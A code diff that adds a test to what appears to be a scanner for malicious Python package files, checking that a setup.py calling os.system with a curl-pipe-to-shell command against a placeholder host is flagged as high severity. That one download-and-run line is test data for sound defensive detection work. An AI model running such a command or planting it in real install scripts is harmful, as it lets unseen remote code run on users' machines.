@@ -56,6 +56,11 @@ def test_a_setup_file_that_asks_for_its_version_does_not_fail() -> None:
     assert finding.severity is Severity.MEDIUM
 
 
+def test_a_process_that_downloads_a_program_and_runs_it_fails_anywhere() -> None:
+    source = "import os\ndef f():\n    os.system('curl https://a.invalid/x | sh')\n"
+    assert [f.severity for f in judged(source, "setup.py")] == [Severity.HIGH]
+
+
 def test_a_line_of_a_site_file_fails() -> None:
     (finding,) = judged("../lib\nimport os; os.system('true')\n", "x.pth")
     assert finding.severity is Severity.HIGH
